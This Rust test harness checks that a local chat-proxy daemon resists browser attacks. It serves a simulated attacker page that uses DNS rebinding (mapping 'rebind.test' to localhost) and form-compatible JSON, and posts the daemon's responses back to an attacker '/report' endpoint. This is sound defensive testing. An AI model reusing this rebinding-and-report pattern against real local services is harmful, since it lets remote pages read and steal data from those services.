//! The daemon, its backend, the attacker and the browser.

use std::io::Read;
use std::process::{Child, Command};

use chatmock_simulator::Settings;
use chatmock_testkit::backend::Backend;
use chatmock_testkit::client::{Reply, Request};
use chatmock_testkit::process::PATIENCE;
use chatmock_testkit::{blocking, chromium};
use tempfile::TempDir;

use crate::attacker::Attacker;
use crate::process::{Running, program};

/// The name that the attacker lets lead to this machine.
pub(crate) const REBOUND: &str = "rebind.test";

/// A question whose text a form can send too: the form puts the equals sign into it.
pub(crate) const QUESTION: &str = concat!(
    r#"{"model":"gpt-5.5","messages":[{"role":"user","content":"marzipan"}],"#,
    r#""metadata":{"form":"="}}"#
);

/// What stands before every attack: the daemon, the question, and a fetch that tells how it went.
const PRELUDE: &str = r#"
    const attempt = async (address, options) => {
        try {
            const answer = await fetch(address, options);
            return `${answer.type} ${answer.status} ${await answer.text()}`;
        } catch (fault) {
            return fault.name;
        }
    };
    const json = { method: "POST", headers: { "content-type": "application/json" }, body: QUESTION };
"#;

/// A daemon that is signed in at a backend of its own, so that what reaches the backend can be counted.
pub(crate) struct Harness {
    pub(crate) daemon: Running,
    backend: Backend,
}

impl Harness {
    pub(crate) fn new(flags: &[&str]) -> Self {
        let backend = Backend::signed_in(Settings::default()).unwrap();
        // The list of models would be fetched by itself, and be counted.
        let mut command = program(&["--port", "0", "--model-sync", "false"]);
        command.args(backend.flags()).args(flags).env("CHATMOCK_STORE", "file");
        Self { daemon: Running::start(&mut command), backend }
    }

    /// Shows a page of the attacker's in the browser; gives what its script, an async function, returns.
    pub(crate) fn visit(&self, attacker: Attacker, name: &str, script: &str) -> String {
        let (address, port) = (&self.daemon.address, attacker.port);
        // The report has a name of its own: connections of the page's name may by then lead to the daemon.
        let reported = format!("{}/report", attacker.origin());
        let page = format!(
            "<!doctype html><body><script type=module>\
             const DAEMON = \"{address}\", QUESTION = `{QUESTION}`;{PRELUDE}\
             const body = await (async () => {{ {script} }})();\
             await fetch(\"{reported}\", {{ method: \"POST\", body, mode: \"no-cors\" }});</script>"
        );
        let reports = attacker.serve(page, address);
        let _browser = Browser::start(&format!("http://{name}:{port}/"));
        reports.recv_timeout(PATIENCE).unwrap()
    }

    /// Waits until the daemon's log says that it refused a request.
    pub(crate) fn refused(&self, method: &str, path: &str) {
        self.daemon.line(&format!("method=\"{method}\" path=\"{path}\" status=403"));
    }

    /// All that the backend was asked so far.
    pub(crate) fn calls(&self) -> u64 {
        self.backend.simulator.stats().requests.values().sum()
    }

    /// Looks that the backend heard of nothing, and that it hears of the same request of a program.
    pub(crate) fn untouched(&self, content_type: &str) {
        assert_eq!(self.calls(), 0);
        let question = Request::new("POST", "/v1/chat/completions").body(QUESTION);
        let reply = self.ask(&question.with("content-type", content_type));
        assert_eq!(reply.status, 200, "{}", reply.text());
        assert!(reply.text().contains("You said: marzipan"), "{}", reply.text());
        assert_eq!((self.calls(), self.backend.simulator.stats().responses()), (1, 1));
    }

    /// Asks as a program does, which names no origin.
    pub(crate) fn ask(&self, request: &Request) -> Reply {
        let request = request.clone().with("host", &self.daemon.address);
        blocking::send(&self.daemon.address, &request).unwrap()
    }
}

/// A Chromium that shows a page until it is dropped.
struct Browser {
    child: Child,
    _profile: TempDir,
}

impl Browser {
    fn start(address: &str) -> Self {
        let profile = TempDir::new().unwrap();
        let child = chromium(&profile).arg(address).spawn().unwrap();
        Self { child, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
        // Its helpers hold the same pipe: its end is theirs, and none writes into the profile any more.
        self.child.stdout.take().map(|mut pipe| pipe.read_to_end(&mut Vec::new()));
    }
}

/// The text of a page that holds no script.
pub(crate) fn shown(address: &str) -> String {
    let profile = TempDir::new().unwrap();
    let output = chromium(&profile).args(["--dump-dom", address]).output().unwrap();
    String::from_utf8(output.stdout).unwrap()
}

/// Chromium, for which the attacker's name leads to this machine.
fn chromium(profile: &TempDir) -> Command {
    let mut command = chromium::command(profile.path());
    command.arg(format!("--host-resolver-rules=MAP {REBOUND} 127.0.0.1"));
    command
}
